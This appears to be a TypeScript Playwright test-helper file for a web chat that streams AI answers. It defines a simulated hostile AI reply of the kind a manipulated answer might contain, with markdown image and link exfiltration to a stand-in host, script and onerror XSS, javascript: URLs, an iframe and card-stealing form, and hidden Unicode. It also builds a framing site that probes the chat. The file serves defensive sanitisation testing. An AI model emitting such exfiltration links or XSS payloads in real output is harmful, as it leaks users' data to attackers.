import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';

/** What an answer holds that was talked into it: everything that a page could be made to draw, follow or run. */
export const hostileAnswer = [
  '![map](https://thief.example/p.png?q=secret) [click](https://thief.example/?q=secret)',
  '<img src=x onerror="document.title=\'taken\'"><script>document.title="taken"</script>',
  '<a href="javascript:document.title=\'taken\'">here</a> [a](javascript:alert(1)) ![b](data:image/png;base64,AAAA)',
  '<iframe src="https://thief.example/"></iframe><form action="https://thief.example/"><input name="card"></form>',
  'https://thief.example/plain www.thief.example data:text/html,<b>x</b>',
  'W'.repeat(2_000),
  'be\u202Efore\u2066 hid\u200Bden \u{E0068}\u{E0069}end',
].join('\n');

/** Sends an enquiry as long as it may be, in one word, and with markup. Answers the status. */
export const enquiryWithoutForm = `fetch('/api/v1/leads', {
  method: 'POST',
  headers: { 'content-type': 'application/json', 'x-cordon-request': '1', 'idempotency-key': crypto.randomUUID() },
  body: JSON.stringify({ fullName: 'E'.repeat(199), contact: 'eve@example.com', consentToContact: true, consentWordingVersion: 1,
    message: '<img src=x onerror="document.title=1"> ' + 'W'.repeat(1900) }),
}).then((answer) => answer.text().then(() => answer.status))`;

/** Answers every question of the page with these words, as the gateway streams them. */
export async function answerWith(page: Page, text: string): Promise<void> {
  const chunk = (delta: object): string => `data: ${JSON.stringify({ choices: [{ index: 0, delta }] })}\n\n`;
  const pieces = text.match(/[^]{1,7}/gu) ?? [];
  await page.route('**/api/v1/ai/chat/completions', (route) =>
    route.fulfill({
      contentType: 'text/event-stream',
      body: `${pieces.map((content) => chunk({ content })).join('')}data: [DONE]\n\n`,
    }),
  );
}

/** Elements of the messages that only markup could have made. */
export const drawnFromMarkup = markupIn('.messages');

/** Elements below a place that only markup in a text could have made there. */
export function markupIn(place: string): string {
  return `[...document.querySelectorAll(${JSON.stringify(`${place} *`)})]
    .filter((each) => !['LI', 'SPAN', 'P', 'H3', 'BUTTON'].includes(each.tagName)).map((each) => each.outerHTML)`;
}

/** Another site that puts the chat into a frame of its own, and sends it whatever it can. */
export async function openOtherSite(
  framed: string,
): Promise<{ readonly origin: string; readonly close: () => void }> {
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end(
      `<!doctype html><title>Other</title><iframe src="${framed}"></iframe><script>
         addEventListener('load', () => frames[0].postMessage({ type: 'agree', text: 'hello' }, '*'));
         fetch('${framed}settings.json').then(() => { document.title = 'read'; }, () => { document.title = 'refused'; });
       </script>`,
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
